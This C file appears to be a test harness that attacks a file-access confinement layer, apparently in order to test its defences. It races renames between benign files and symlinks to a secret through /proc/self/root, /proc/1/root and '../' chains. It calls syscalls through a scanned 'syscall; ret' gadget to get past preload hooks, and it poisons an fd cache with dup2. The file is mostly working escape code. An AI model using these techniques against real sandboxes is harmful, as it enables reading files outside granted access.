/* The stat of one name beside a directory fd (handler/src/pola.rs
 * stat_one_name: the kernel's own fstatat from the program's fd, a symlink
 * followed the confined way) and the other path calls of the gate (statx,
 * faccessat, readlinkat, openat), raced: a thread swaps a name of the rw
 * grant (RENAME_EXCHANGE) among a file, a FIFO, a directory and symlinks
 * out: to the secret (absolute, relative climbing, via /proc/self/root and
 * /proc/1/root), to the secret's directory, `..`, `/`. Meanwhile the main
 * thread stats, accesses, reads the link of and opens that name beside a
 * directory fd of the rw grant (opened in the process, and handed out by
 * the server: `//` path), through libc and through ld-preld's `syscall;
 * ret`; then the fd's number is made stale for the handler's fd -> grant
 * cache (dup2 through the gadget of the session's /proc/1, /proc/self,
 * the read-only grant's dir) and the names stat'ed again. Every stat that
 * succeeds is compared with the secret's and its directory's device and
 * inode (argv[4], argv[5]: "DEV:INO", as the harness sees them): a match
 * prints ESCAPE (a stat of an object outside the grants), a read shows. */
#include "attack.h"
#include "gadget_scan.h"
#include <pthread.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

static unsigned long long sdev[2], sino[2];
static const char *names[10];
static const char *target;
static volatile int stop;
static unsigned long g;
static long hits, leaks;

static void *flip(void *a) {
    (void)a;
    for (int i = 0; !stop; i++) renameat2(AT_FDCWD, names[i % 10], AT_FDCWD, target, RENAME_EXCHANGE);
    return 0;
}

static void judge(const char *how, unsigned long long dev, unsigned long long ino) {
    hits++;
    for (int k = 0; k < 2; k++)
        if (dev == sdev[k] && ino == sino[k]) {
            if (leaks++ < 20) printf("%s: ESCAPE: stat of the %s outside the grants (dev %llx ino %llu)\n", how, k ? "secret's directory" : "secret", dev, ino);
            fflush(stdout);
        }
}

/* Every way of stat'ing `name` beside `dirfd` (dirfd AT_FDCWD: a path). */
static void stat_all(const char *label, int dirfd, const char *name) {
    struct stat st;
    struct statx sx;
    char how[128];
    for (int fl = 0; fl < 2; fl++) {
        int f = fl ? AT_SYMLINK_NOFOLLOW : 0;
        snprintf(how, sizeof how, "%s fstatat(%s,%d) libc", label, name, f);
        if (fstatat(dirfd, name, &st, f) == 0) judge(how, st.st_dev, st.st_ino);
        snprintf(how, sizeof how, "%s statx(%s,%d) libc", label, name, f);
        if (statx(dirfd, name, f, STATX_BASIC_STATS, &sx) == 0) judge(how, makedev(sx.stx_dev_major, sx.stx_dev_minor), sx.stx_ino);
        snprintf(how, sizeof how, "%s fstatat(%s,%d) raw", label, name, f);
        if (raw(SYS_newfstatat, dirfd, name, &st, f) == 0) judge(how, st.st_dev, st.st_ino);
        if (g) {
            snprintf(how, sizeof how, "%s fstatat(%s,%d) gadget", label, name, f);
            if (call_gadget(g, SYS_newfstatat, dirfd, (long)name, (long)&st, f) == 0) judge(how, st.st_dev, st.st_ino);
        }
    }
    if (faccessat(dirfd, name, R_OK, 0) == 0) hits++;
    char link[256];
    ssize_t n = readlinkat(dirfd, name, link, sizeof link - 1);
    if (n > 0) hits++;
    int fd = openat(dirfd, name, O_RDONLY | O_NONBLOCK);
    if (fd >= 0) {
        if (fstat(fd, &st) == 0) judge(cat2(label, " openat+fstat"), st.st_dev, st.st_ino);
        char buf[256];
        long r = read(fd, buf, sizeof buf - 1);
        if (r > 0) {
            buf[r] = 0;
            if (strstr(buf, "preld-secret")) printf("%s openat(%s): READ %s\n", label, name, buf);
        }
        close(fd);
    }
}

int main(int argc, char **argv) {
    ARGS
    if (argc < 6 || sscanf(argv[4], "%llu:%llu", &sdev[0], &sino[0]) != 2 || sscanf(argv[5], "%llu:%llu", &sdev[1], &sino[1]) != 2) {
        fprintf(stderr, "usage: secret ro rw DEV:INO DEV:INO\n");
        return 2;
    }
    find_gadgets();
    g = ncand ? cands[0] : 0;
    char *sdir = strdup(secret);
    *strrchr(sdir, '/') = 0;
    const char *up = "../../../../../../../../../../../..";
    names[0] = cat2(rw, "/n-file");
    names[1] = cat2(rw, "/n-fifo");
    names[2] = cat2(rw, "/n-dir");
    names[3] = cat2(rw, "/n-abs");
    names[4] = cat2(rw, "/n-rel");
    names[5] = cat2(rw, "/n-selfroot");
    names[6] = cat2(rw, "/n-initroot");
    names[7] = cat2(rw, "/n-sdir");
    names[8] = cat2(rw, "/n-dotdot");
    names[9] = cat2(rw, "/n-slash");
    target = cat2(rw, "/x");
    int made = 0;
    int f = open(names[0], O_CREAT | O_WRONLY, 0644);
    made += f >= 0 && write(f, "benign\n", 7) == 7;
    close(f);
    made += mkfifo(names[1], 0644) == 0;
    made += mkdir(names[2], 0755) == 0;
    made += symlink(secret, names[3]) == 0;
    made += symlink(cat2(up, secret), names[4]) == 0;
    made += symlink(cat2("/proc/self/root", secret), names[5]) == 0;
    made += symlink(cat2("/proc/1/root", secret), names[6]) == 0;
    made += symlink(sdir, names[7]) == 0;
    made += symlink("..", names[8]) == 0;
    made += symlink("/", names[9]) == 0;
    made += symlink(secret, target) == 0;
    printf("made %d of 11 names\n", made);

    /* Unraced first: each name, beside dirfds of the rw grant and as paths. */
    int dfd = open(rw, O_RDONLY | O_DIRECTORY);
    int sfd = open(cat2("/", rw), O_RDONLY | O_DIRECTORY); /* the server's */
    printf("rw dir fds: %d %d\n", dfd, sfd);
    const char *leaf[] = { "n-file", "n-fifo", "n-dir", "n-abs", "n-rel", "n-selfroot", "n-initroot", "n-sdir", "n-dotdot", "n-slash", "x",
                           "n-sdir/secret", "n-dotdot/..", "n-slash/proc/1/root", "..", "." };
    for (unsigned i = 0; i < sizeof leaf / sizeof *leaf; i++) {
        stat_all("dirfd", dfd, leaf[i]);
        stat_all("server dirfd", sfd, leaf[i]);
        stat_all("path", AT_FDCWD, cat2(cat2(rw, "/"), leaf[i]));
    }
    stat_all("path", AT_FDCWD, secret);
    stat_all("path", AT_FDCWD, sdir);
    stat_all("path", AT_FDCWD, cat2("/proc/self/root", secret));
    stat_all("path", AT_FDCWD, cat2("/proc/1/root", secret));
    stat_all("path", AT_FDCWD, cat2(up, secret));

    /* Raced. */
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    for (int i = 0; i < 3000; i++) {
        stat_all("raced dirfd", dfd, "x");
        if (i % 4 == 0) stat_all("raced server dirfd", sfd, "x");
        if (i % 8 == 0) stat_all("raced path", AT_FDCWD, target);
    }
    stop = 1;
    pthread_join(t, 0);

    /* Stale cache: the rw dirfd's number learnt, then replaced unseen. */
    const char *others[] = { "/proc/1", "/proc/self", ro, "/proc/1/root", "/proc/self/fd" };
    for (unsigned k = 0; k < sizeof others / sizeof *others; k++) {
        int fd = open(rw, O_RDONLY | O_DIRECTORY);
        struct stat st;
        fstatat(fd, "n-file", &st, 0); /* learnt as the rw grant's */
        int o = open(others[k], O_RDONLY | O_DIRECTORY);
        printf("stale %s: fd %d <- %d\n", others[k], fd, o);
        if (o >= 0 && g) call_gadget(g, SYS_dup2, o, fd, 0, 0);
        else if (o >= 0) dup2(o, fd);
        if (o >= 0) close(o);
        const char *more[] = { "root", "cwd", "exe", "n-abs", "n-sdir", "victim", "..", "1", "3" };
        for (unsigned j = 0; j < sizeof more / sizeof *more; j++) stat_all(cat2("stale ", others[k]), fd, more[j]);
        stat_all("stale+root", fd, cat2("root", secret));
        close(fd);
    }
    printf("stats that succeeded: %ld, of the secret or its dir: %ld\n", hits, leaks);
    return 0;
}
